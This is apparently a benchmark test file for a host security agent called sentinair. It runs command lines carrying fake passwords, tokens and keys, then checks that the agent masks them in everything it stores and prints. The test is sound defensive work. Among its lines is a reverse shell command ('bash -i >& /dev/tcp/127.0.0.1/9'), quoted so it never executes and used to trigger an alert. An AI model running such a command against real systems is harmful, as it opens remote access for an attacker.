"""Command lines with secrets, really run: afterwards no file the agent wrote and nothing it printed may hold one."""

from __future__ import annotations

import base64
import os
import shutil
import subprocess
from pathlib import Path

from sentinair.model.event import ProcessEvent
from tests.bench.bed import Promises, need_root, workplace
from tests.bench.campaigns.exec_storm import as_its_unit
from tests.bench.figures import Figures
from tests.harness.agent import Agent

SIZES = {"small": 1, "full": 20}  # how often each line is run
_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\n{s}\n-----END OPENSSH PRIVATE KEY-----"
_JWT = "eyJhbGciOiJIUzI1NiJ9.{s}.c2lnbmF0dXJl"
# {s} is the secret.  The first word is a copy of /bin/true, but for `sh`: so anything may be "run".
LINES: tuple[tuple[str, ...], ...] = (
    ("tool", "--password={s}"),
    ("tool", "--password", "{s}"),
    ("tool", "--passwd={s}", "--verbose"),
    ("tool", "--pass", "{s}"),
    ("tool", "--token={s}"),
    ("tool", "--token", "{s}"),
    ("tool", "--api-key={s}"),
    ("tool", "--secret", "{s}"),
    ("tool", "--client-secret={s}"),
    ("tool", "--access-token", "{s}"),
    ("mysql", "-p{s}"),
    ("mysql", "-u", "root", "-p{s}", "database"),
    ("mysqldump", "--password={s}", "database"),
    ("mariadb", "-p{s}"),
    ("sshpass", "-p", "{s}", "ssh", "host"),
    ("sshpass", "-p{s}", "ssh", "host"),
    ("redis-cli", "-a", "{s}"),
    ("7z", "a", "-p{s}", "archive.7z"),
    ("curl", "-u", "user:{s}", "http://localhost/"),
    ("curl", "--user", "user:{s}", "http://localhost/"),
    ("curl", "-uuser:{s}", "http://localhost/"),
    ("curl", "http://user:{s}@localhost/path"),
    ("git", "clone", "https://name:{s}@localhost/repo.git"),
    ("tool", "postgresql://name:{s}@localhost:5432/db"),
    ("curl", "-H", "Authorization: Bearer {s}", "http://localhost/"),
    ("curl", "-H", "X-Api-Key: {s}", "http://localhost/"),
    ("curl", "--header", "Authorization: Basic {b}", "http://localhost/"),
    ("curl", "-HCookie: session={s}", "http://localhost/"),
    ("curl", "http://localhost/?token={s}&page=1"),
    ("curl", "-d", "password={s}", "http://localhost/"),
    ("env", "PASSWORD={s}", "program"),
    ("env", "PGPASSWORD={s}", "psql"),
    ("docker", "run", "-e", "DB_PASSWORD={s}", "image"),
    ("tool", "api_key={s}"),
    ("tool", "secret={s}"),
    ("openssl", "enc", "-passin", "pass:{s}"),
    ("openssl", "rsa", "-passout", "pass:{s}"),
    ("smbclient", "//host/share", "-U", "user%{s}"),
    ("sqlplus", "scott/{s}@db"),
    ("ldapsearch", "-w", "{s}", "-x"),
    ("ansible-playbook", "--extra-vars", "ansible_password={s}", "site.yml"),
    ("wget", "--http-password={s}", "http://localhost/"),
    ("tool", "ghp_{s}0123456789abcdefABCDEF"),
    ("tool", _JWT),
    ("tool", _KEY),
    ("sh", "-c", "true --password={s}; true"),
    ("sh", "-c", 'true mysql -u root --password "{s}"; true'),
    ("sh", "-c", "true 'Authorization: Bearer {s}'; true"),
    ("sh", "-c", "PASSWORD={s} true; true"),
    # Parent chain: the shell holds the secret while its child touches a watched file.
    ("sh", "-c", "touch {tree}/by-child-{n}; true --token {s}"),
    # Explain text: a reverse shell raises an alert that shows its command line.
    ("sh", "-c", "true 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' --password={s}; true"),
)
PLAIN: tuple[tuple[str, ...], ...] = (
    ("mkdir", "-p", "plain-directory"),
    ("ssh", "-p", "22", "plain-host"),
    ("cp", "-p", "plain-from", "plain-to"),
    ("nc", "-p", "4444", "plain-host"),
)


def run(size: str) -> Figures:
    """Runs every line, stops the agent and looks for each secret in all it wrote."""
    need_root()
    repeats = SIZES[size]
    promises = Promises()
    with workplace() as folder:
        tree, programs = folder / "tree", folder / "programs"
        tree.mkdir()
        _make_programs(programs)
        with Agent(folder / "agent", watch=[tree]) as agent:
            agent.settle()
            as_its_unit(agent)
            secrets = [s for number in range(repeats) for s in _run_all(programs, tree, number)]
            agent.process_marker()
            agent.settle()
            said = _said(agent)
            live = _hits(_written(agent), secrets)
        stored = [row.event for row in agent.stored.events("process")]
        said += agent.output
        hits = live + _hits({**_written(agent), "output": said.encode()}, secrets)
    lines = [
        e.process.argv for e in stored if isinstance(e, ProcessEvent) and e.process.argv is not None
    ]
    masked = sum(isinstance(e, ProcessEvent) and e.process.masked for e in stored)
    unmasked = sum(
        any(argv[1:] == tuple(w.encode() for w in plain[1:]) for argv in lines) for plain in PLAIN
    )
    promises.keep(not hits, f"no secret is found anywhere: {hits[:5]}")
    promises.keep(
        masked >= len(secrets), f"each of {len(secrets)} lines is marked as masked, not {masked}"
    )
    promises.keep(unmasked == len(PLAIN), "ordinary options are stored as they are")
    return promises.onto(
        {"lines": len(LINES), "secrets": len(secrets), "found": len(hits), "masked_events": masked}
    )


def _make_programs(folder: Path) -> None:
    folder.mkdir()
    for name in {line[0] for line in LINES + PLAIN} - {"sh"}:
        shutil.copy("/bin/true", folder / name)


def _run_all(programs: Path, tree: Path, number: int) -> list[str]:
    """Runs each line once with a secret of its own; returns the secrets in the forms to look for."""
    secrets = []
    for at, line in enumerate(LINES):
        secret = f"Xq{number}z{at}" + os.urandom(9).hex()
        basic = base64.b64encode(f"user:{secret}".encode()).decode()
        words = [
            w.replace("{s}", secret).replace("{b}", basic).replace("{tree}", str(tree))
            for w in line
        ]
        words = [w.replace("{n}", f"{number}-{at}") for w in words]
        program = "/bin/sh" if line[0] == "sh" else str(programs / line[0])
        subprocess.run(words, executable=program, check=False, cwd=programs)
        secrets.append(basic if any("{b}" in word for word in line) else secret)
    if number == 0:
        for line in PLAIN:
            subprocess.run(line, executable=str(programs / line[0]), check=False, cwd=programs)
    return secrets


def _said(agent: Agent) -> str:
    """What the command line shows of it all."""
    said = []
    listings = (["events", "list", "--limit", "0"], ["alerts", "list", "--limit", "0"], ["status"])
    for words in listings:
        for more in ([], ["--json"]):
            done = agent.cli(*words, *more)
            said.append(done.stdout + done.stderr)
    for alert in agent.stored.alerts():
        done = agent.cli("alerts", "explain", alert.id)
        said.append(done.stdout + done.stderr)
    return "".join(said)


def _written(agent: Agent) -> dict[str, bytes]:
    """Content of every file below the agent's folder: main file, WAL, journal, logs, sockets' folder."""
    files = {}
    for path in agent.folder.rglob("*"):
        if path.is_file() and not path.is_symlink():
            files[str(path.relative_to(agent.folder))] = path.read_bytes()
    return files


def _hits(contents: dict[str, bytes], secrets: list[str]) -> list[str]:
    """`file: secret's number` of each that is found, in plain or UTF-16 form."""
    found = []
    for name, content in contents.items():
        for at, secret in enumerate(secrets):
            if secret.encode() in content or secret.encode("utf-16-le") in content:
                line = LINES[at % len(LINES)]
                found.append(f"{name}: {' '.join(line)[:60]}")
    return found
